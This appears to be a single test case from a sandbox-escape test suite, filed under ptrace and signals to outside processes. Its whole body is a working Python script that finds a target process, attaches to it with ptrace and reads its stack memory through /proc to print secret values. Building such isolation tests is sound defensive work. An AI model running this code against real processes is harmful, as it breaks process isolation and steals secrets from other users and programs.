# Category: ptrace and signals to outside processes
# Escape: attaches to a process outside and reads its memory, where the secret is.
# Sign: secret
python3 - <<'PYTHON'
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if not open(f"/proc/{pid}/cmdline").read().startswith(os.environ["VICTIM"]): continue
        if libc.ptrace(0x4206, int(pid), None, None) < 0: continue
        for line in open(f"/proc/{pid}/maps"):
            if "[stack]" not in line: continue
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(first)
                print(*re.findall(rb"SECRET=\w+", memory.read(last - first)))
    except OSError: pass
PYTHON
